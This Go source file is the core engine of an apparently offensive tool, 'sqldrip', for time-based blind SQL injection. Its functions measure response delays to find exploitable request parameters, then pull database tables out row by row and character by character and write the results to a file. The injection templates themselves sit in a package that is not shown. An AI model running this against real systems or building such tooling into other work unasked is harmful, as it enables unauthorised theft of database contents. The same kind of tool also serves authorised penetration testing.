package engine

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/0x6d61/sqldrip/internal/payload"
	"github.com/0x6d61/sqldrip/internal/report"
	"github.com/0x6d61/sqldrip/internal/transport"
	"github.com/0x6d61/sqldrip/internal/ui"
)

// banner is shown at the top of the frame stack during interactive runs.
const banner = `
           _     _      _
 ___  __ _| | __| |_ __(_)_ __
/ __|/ _` + "`" + ` | |/ _` + "`" + ` | '__| | '_ \
\__ \ (_| | | (_| | |  | | |_) |
|___/\__, |_|\__,_|_|  |_| .__/
        |_|              |_|
`

// Test probes each of the given parameters with the template library and
// returns the names of those that can be exploited. Parameters for which
// no family meets the sleep threshold are reported as not exploitable;
// transport failures abort the run.
func (e *Engine) Test(ctx context.Context, defaultRequest *transport.Request, params []string) ([]string, error) {
	bannerFrame := ui.NewSimpleFrame(0, banner)
	targetInfo := ui.NewTableFrame(1, [][]string{
		{"Target response time:", ""},
		{"Injected sleep time:", ""},
	})
	progressInfo := ui.NewProgressFrame(2, 1)
	testInfo := ui.NewTableFrame(3, make([][]string, len(params)))

	e.sink.Reset()
	e.sink.Log(bannerFrame)

	refMS, err := e.builder.ReferenceRespTime(ctx, defaultRequest)
	if err != nil {
		return nil, err
	}
	sleepMS, err := e.builder.SleepTime(ctx, defaultRequest)
	if err != nil {
		return nil, err
	}
	targetInfo.SetCell(0, 1, fmt.Sprintf("%.2f ms (%.3f sec)", refMS, refMS/1000))
	targetInfo.SetCell(1, 1, fmt.Sprintf("%.2f ms (%.3f sec)", sleepMS, sleepMS/1000))
	e.sink.Log(targetInfo)

	var exploitable []string
	for i, p := range params {
		if err := ctx.Err(); err != nil {
			e.sink.Log(ui.NewSimpleFrame(4, "Testing has been stopped."))
			return exploitable, err
		}

		progressInfo.SetProgress(0, i, len(params)-1, fmt.Sprintf("Testing parameter %q:", p))
		e.sink.Log(progressInfo)

		_, err := e.builder.TestPayload(ctx, defaultRequest, p, e.opts.MaxInterval, e.opts.MaxThreads)
		switch {
		case err == nil:
			exploitable = append(exploitable, p)
			testInfo.SetCell(i, 0, fmt.Sprintf("%q seems to be exploitable", p))
		case isUnexploitable(err):
			testInfo.SetCell(i, 0, fmt.Sprintf("%q doesn't seem to be exploitable", p))
		default:
			return nil, err
		}
		e.sink.Log(testInfo)
	}

	progressInfo.SetProgress(0, 1, 1, "All parameters have been tested:")
	e.sink.Log(progressInfo)
	e.sink.End()

	return exploitable, nil
}

// FetchChar recovers the character at charIndex (1-based) of the row at
// rowIndex. The second return value is false when the search concluded
// the position holds no recoverable character.
func (e *Engine) FetchChar(ctx context.Context, defaultRequest *transport.Request, param, table string, columns []string, rowIndex, charIndex int) (rune, bool, error) {
	// Exploitability pre-check; hits the family cache after the first call.
	if _, err := e.builder.TestPayload(ctx, defaultRequest, param, e.opts.MaxInterval, e.opts.MaxThreads); err != nil {
		return 0, false, err
	}

	sqliPayload, err := e.fetchPayload(ctx, defaultRequest, param, table, columns, rowIndex, e.builder.FetchCharPayload)
	if err != nil {
		return 0, false, err
	}
	sqliPayload = payload.Render(sqliPayload, payload.PlaceholderCharIndex, strconv.Itoa(charIndex))
	slog.Debug("fetch-char payload", "payload", sqliPayload)

	value, ok, err := e.getValue(ctx, defaultRequest, param, e.opts.MinChar, e.opts.MaxChar, sqliPayload)
	if err != nil || !ok {
		return 0, false, err
	}
	return rune(value), true, nil
}

// FetchRowLength recovers the length of the row at rowIndex. The second
// return value is false when no row exists at that index.
func (e *Engine) FetchRowLength(ctx context.Context, defaultRequest *transport.Request, param, table string, columns []string, rowIndex int) (int, bool, error) {
	if _, err := e.builder.TestPayload(ctx, defaultRequest, param, e.opts.MaxInterval, e.opts.MaxThreads); err != nil {
		return 0, false, err
	}

	sqliPayload, err := e.fetchPayload(ctx, defaultRequest, param, table, columns, rowIndex, e.builder.FetchRowLengthPayload)
	if err != nil {
		return 0, false, err
	}
	slog.Debug("fetch-row-length payload", "payload", sqliPayload)

	return e.getValue(ctx, defaultRequest, param, e.opts.MinRowLength, e.opts.MaxRowLength, sqliPayload)
}

// fetchPayload instantiates a fetch template with everything except the
// condition, value and (for fetch-char) char-index placeholders, which
// the value search substitutes per probe.
func (e *Engine) fetchPayload(ctx context.Context, defaultRequest *transport.Request, param, table string, columns []string, rowIndex int,
	template func(context.Context, *transport.Request, string, int, int) (string, error)) (string, error) {

	sleepMS, err := e.builder.SleepTime(ctx, defaultRequest)
	if err != nil {
		return "", err
	}
	tmpl, err := template(ctx, defaultRequest, param, e.opts.MaxInterval, e.opts.MaxThreads)
	if err != nil {
		return "", err
	}

	columnExpr, _ := payload.ColumnsConcat(columns)
	return payload.Render(tmpl,
		payload.PlaceholderColumnName, columnExpr,
		payload.PlaceholderTableName, table,
		payload.PlaceholderRowIndex, strconv.Itoa(rowIndex),
		payload.PlaceholderSleepTime, payload.FormatSleepTime(sleepMS/1000),
	), nil
}

// FetchRow recovers the row at rowIndex as a column-name → value map. The
// second return value is false when the row does not exist. Characters
// that could not be recovered appear as the configured unknown character;
// a zero-length row maps every column to the empty string.
func (e *Engine) FetchRow(ctx context.Context, defaultRequest *transport.Request, param, table string, columns []string, rowIndex int) (map[string]string, bool, error) {
	length, ok, err := e.FetchRowLength(ctx, defaultRequest, param, table, columns, rowIndex)
	if err != nil {
		return nil, false, err
	}

	row := make(map[string]string, len(columns))
	for _, c := range columns {
		row[c] = ""
	}

	if !ok {
		return nil, false, nil
	}
	if length == 0 {
		return row, true, nil
	}
	slog.Info("row length found", "row", rowIndex, "length", length)

	chars := make([]rune, 0, length)
	for charIndex := 1; charIndex <= length; charIndex++ {
		ch, ok, err := e.FetchChar(ctx, defaultRequest, param, table, columns, rowIndex, charIndex)
		if err != nil {
			return nil, false, err
		}
		if !ok {
			ch = e.opts.UnknownChar
		}
		chars = append(chars, ch)
		slog.Info("char found", "char", string(ch), "position", charIndex, "length", length, "row", rowIndex)
	}

	_, separator := payload.ColumnsConcat(columns)
	values := strings.Split(string(chars), separator)
	for i, c := range columns {
		if i < len(values) {
			row[c] = values[i]
		}
	}
	return row, true, nil
}

// TableConfig describes one fetch_table run.
type TableConfig struct {
	// Param is the exploitable parameter carrying the payloads.
	Param string

	// Table and Columns select what to fetch.
	Table   string
	Columns []string

	// FromRow is the first row index to fetch.
	FromRow int

	// NRows caps the number of rows fetched; 0 fetches until the end of
	// the table.
	NRows int

	// OutputPath receives the formatted rows. If the path already exists
	// "_2" is appended until it does not.
	OutputPath string

	// Formatter renders the header, rows and footer. Defaults to TSV.
	Formatter report.Formatter
}

// TableDump summarizes a completed (or interrupted) fetch_table run.
type TableDump struct {
	OutputPath  string
	RowsFetched int
	Duration    time.Duration
}

// FetchTable streams rows of a table into the output file. Rows are
// fetched one by one starting at FromRow and written immediately; the run
// ends when NRows rows were emitted or a row past the end of the table is
// hit. A missing intermediate row therefore truncates the dump: the first
// absent row is read as the end of the table.
//
// On cancellation the file is still finalized with the formatter's footer
// before the context error is returned.
func (e *Engine) FetchTable(ctx context.Context, defaultRequest *transport.Request, cfg TableConfig) (*TableDump, error) {
	outputPath := cfg.OutputPath
	if outputPath == "" {
		outputPath = DefaultOutputPath
	}
	outputPath = report.ResolvePath(outputPath)

	formatter := cfg.Formatter
	if formatter == nil {
		formatter = report.NewTSVFormatter(cfg.Columns)
	}

	// Check if the parameter is exploitable before touching the filesystem
	// any further.
	if _, err := e.builder.TestPayload(ctx, defaultRequest, cfg.Param, e.opts.MaxInterval, e.opts.MaxThreads); err != nil {
		return nil, err
	}

	start := time.Now()

	bannerFrame := ui.NewSimpleFrame(0, banner)
	targetInfo := ui.NewTableFrame(1, [][]string{
		{"Target response time:", ""},
		{"Injected sleep time:", ""},
	})
	var progressInfo interface {
		ui.Frame
		SetProgress(bar, progress, total int, message string)
	}
	if cfg.NRows > 0 {
		progressInfo = ui.NewProgressFrame(2, 1)
	} else {
		progressInfo = ui.NewIndeterminateProgressFrame(2, 1)
	}
	fetchInfo := ui.NewTableFrame(3, [][]string{{"Last row:", ""}, {""}})
	etaInfo := ui.NewSpinnerFrame(4, 1)

	e.sink.Reset()
	e.sink.Log(bannerFrame)

	refMS, err := e.builder.ReferenceRespTime(ctx, defaultRequest)
	if err != nil {
		return nil, err
	}
	sleepMS, err := e.builder.SleepTime(ctx, defaultRequest)
	if err != nil {
		return nil, err
	}
	targetInfo.SetCell(0, 1, fmt.Sprintf("%.2f ms (%.3f sec)", refMS, refMS/1000))
	targetInfo.SetCell(1, 1, fmt.Sprintf("%.2f ms (%.3f sec)", sleepMS, sleepMS/1000))
	e.sink.Log(targetInfo)

	outputFile, err := os.Create(outputPath)
	if err != nil {
		return nil, fmt.Errorf("creating output file: %w", err)
	}

	dump := &TableDump{OutputPath: outputPath}
	finalized := false
	finalize := func() {
		if finalized {
			return
		}
		finalized = true
		fmt.Fprint(outputFile, formatter.Footer())
		outputFile.Close()
	}
	defer finalize()

	if _, err := fmt.Fprintln(outputFile, formatter.Header()); err != nil {
		return dump, fmt.Errorf("writing header: %w", err)
	}

	etaInfo.SetSpinner(0, "Computing estimated time...", false)
	e.sink.Log(etaInfo)

	var (
		fetchTimes  []float64 // seconds per fetched row
		rowLengths  []int
		rowIndex    = cfg.FromRow
		interrupted error
	)

	for {
		if cfg.NRows > 0 && dump.RowsFetched == cfg.NRows {
			break
		}
		if err := ctx.Err(); err != nil {
			interrupted = err
			break
		}

		progress, total := 1, 4
		if cfg.NRows > 0 {
			progress, total = dump.RowsFetched, cfg.NRows
		}
		progressInfo.SetProgress(0, progress, total, fmt.Sprintf("Fetching row %d:", rowIndex))
		e.sink.Log(progressInfo)

		rowStart := time.Now()
		row, ok, err := e.FetchRow(ctx, defaultRequest, cfg.Param, cfg.Table, cfg.Columns, rowIndex)
		if err != nil {
			if ctx.Err() != nil {
				interrupted = ctx.Err()
				break
			}
			return dump, err
		}
		if !ok {
			// Past the end of the table.
			break
		}

		fetchTimes = append(fetchTimes, time.Since(rowStart).Seconds())
		rowValue := &strings.Builder{}
		for _, c := range cfg.Columns {
			rowValue.WriteString(row[c])
		}
		rowLengths = append(rowLengths, len(rowValue.String()))

		formattedRow := formatter.Row(row)
		if _, err := fmt.Fprintln(outputFile, formattedRow); err != nil {
			return dump, fmt.Errorf("writing row: %w", err)
		}
		dump.RowsFetched++

		if rowValue.Len() == 0 {
			fetchInfo.SetCell(0, 0, "Last row was empty.")
			fetchInfo.SetCell(0, 1, "")
		} else {
			fetchInfo.SetCell(0, 0, "Last row:")
			fetchInfo.SetCell(0, 1, formattedRow)
		}
		if cfg.NRows > 0 {
			fetchInfo.SetCell(1, 0, fmt.Sprintf("Fetched %d/%d rows.", dump.RowsFetched, cfg.NRows))
		} else {
			fetchInfo.SetCell(1, 0, fmt.Sprintf("Fetched %d/- rows.", dump.RowsFetched))
		}

		// Weighted average fetch time per character; purely advisory.
		var weighted, totalTime float64
		for i, t := range fetchTimes {
			weighted += t * float64(rowLengths[i])
			totalTime += t
		}
		if totalTime > 0 {
			avg := weighted / totalTime
			if cfg.NRows > 0 {
				remaining := cfg.NRows - dump.RowsFetched
				etaInfo.SetSpinner(0, fmt.Sprintf("Estimated time: %.2f min (to completion)", avg*float64(remaining)/60), false)
			} else {
				etaInfo.SetSpinner(0, fmt.Sprintf("Estimated time: %.2f sec (for one row)", avg), false)
			}
		}
		e.sink.Log(etaInfo)
		e.sink.Log(fetchInfo)

		rowIndex++
	}

	finalize()
	dump.Duration = time.Since(start)

	if interrupted != nil {
		e.sink.Log(ui.NewSimpleFrame(5, "Fetching has been stopped."))
		e.sink.Log(ui.NewSimpleFrame(6, fmt.Sprintf("You can find the fetched results in %q.", outputPath)))
		e.sink.End()
		return dump, interrupted
	}

	progressInfo.SetProgress(0, 1, 1, "All rows have been fetched:")
	e.sink.Log(progressInfo)
	fetchInfo.SetCell(1, 0, "All rows have been dumped.")
	etaInfo.SetSpinner(0, fmt.Sprintf("All done in about %.2f min.", dump.Duration.Minutes()), true)
	e.sink.Log(etaInfo)
	e.sink.Log(fetchInfo)
	e.sink.End()

	return dump, nil
}

// isUnexploitable reports whether err is an unexploitable-parameter error.
func isUnexploitable(err error) bool {
	var ue *payload.UnexploitableParameterError
	return errors.As(err, &ue)
}
